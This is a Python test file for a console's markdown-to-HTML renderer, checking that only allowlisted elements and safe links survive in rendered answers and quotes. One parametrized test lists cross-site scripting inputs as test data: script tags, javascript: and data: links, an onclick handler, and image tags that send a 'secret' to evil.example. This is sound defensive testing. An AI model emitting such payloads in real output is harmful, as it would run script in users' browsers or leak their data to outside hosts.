"""Answers as HTML: what is allowed comes out as elements, all else as text."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from roadbed.console.conversation import SourceView
from roadbed.console.markdown import render_answer, render_quote

LINKS = {1: ("/console/documents/d1?start=0&end=3#passage", 'The "rate" <list>')}
_TAG = re.compile(r"<\s*/?\s*([a-zA-Z!][a-zA-Z0-9]*)")
ALLOWED = frozenset(
    re.findall(r"\w+", "p ul ol li blockquote table thead tbody tr th td strong em h4 code pre a br hr")
)


def test_the_allowlist() -> None:
    html = render_answer("Hello **bold** *em* `x < y`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n", {})
    for part in ("<strong>bold</strong>", "<em>em</em>", "<code>x &lt; y</code>", "<li>", "<td>1</td>"):
        assert part in html


def test_citations_are_links_with_names() -> None:
    html = render_answer("So it is [1], they say [2].", LINKS)
    assert 'href="/console/documents/d1?start=0&amp;end=3#passage"' in html
    assert 'aria-label="source 1: The &#34;rate&#34; &lt;list&gt;"' in html
    assert "[2]" in html


def test_a_reference_definition_cannot_capture_a_citation() -> None:
    html = render_answer("So it is [1].\n\n[1]: https://evil.example", LINKS)
    assert 'href="/console/documents/d1' in html
    assert 'href="https://evil' not in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=https://evil.example/?secret>",
        "![secret](https://evil.example/?secret)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "<a href='https://evil.example' onclick='x()'>x</a>",
        "```html\n<iframe src=x></iframe>\n```",
        "<javascript:alert(1)>",
        "&lt;script&gt;",
    ],
)
def test_what_is_not_allowed_is_text(text: str) -> None:
    html = str(render_answer(text, LINKS))
    assert set(_TAG.findall(html)) <= ALLOWED
    assert "<img" not in html
    assert not re.search(r"""href="(?!https?:|mailto:|/console/)""", html)


def test_links_of_answers_are_not_followed_or_told() -> None:
    html = render_answer("[docs](https://example.org/a?b=1&c=2) and [2](https://example.org)", LINKS)
    assert html.count('rel="noopener nofollow noreferrer"') == 2
    assert "b=1&amp;c=2" in html


@given(st.text(alphabet=st.sampled_from(list("<>[]()!*_`|#-\n\"'&;:/\\ 1ax=")), max_size=200))
def test_no_text_makes_an_element_that_is_not_allowed(text: str) -> None:
    html = str(render_answer(text, LINKS))
    assert set(_TAG.findall(html)) <= ALLOWED
    for tag in re.findall(r"<a [^>]*>", html):
        assert re.fullmatch(
            r'<a (class="cite" )?href="[^"<>]*"( data-cite="1" aria-label="[^"<>]*"| rel="[a-z ]*")>', tag
        )


def test_a_quote_of_a_markdown_document_shows_emphasis_and_no_links() -> None:
    assert render_quote("1. **Open.** The _deed_ of `A-1` [says](https://x.example/) so [1]") == (
        "1. <strong>Open.</strong> The <em>deed</em> of <code>A-1</code> says so [1]"
    )
    assert render_quote("**cut and <b>bold</b>") == "cut and &lt;b&gt;bold&lt;/b&gt;"
    assert render_quote("first week back** 2**3 and ***") == "first week back 2**3 and ***"


@given(st.text(alphabet="*_`[]()<>&\"'ab:/!#|\n", max_size=60))
def test_no_quote_makes_an_element_that_is_not_allowed(text: str) -> None:
    assert set(re.findall(r"<[^>]*>", render_quote(text))) <= {
        *("<strong>", "</strong>", "<em>", "</em>", "<code>", "</code>", "<br>")
    }


def test_only_markdown_is_read_as_markdown() -> None:
    def shown(where: str) -> str:
        return SourceView(1, "d", "t", where, 0, 5, "2*3*4").shown("2*3*4 <b>")

    assert shown("handbook/a.MD · page 2") == "2<em>3</em>4 &lt;b&gt;"
    assert shown("handbook/a.txt") == "2*3*4 &lt;b&gt;"
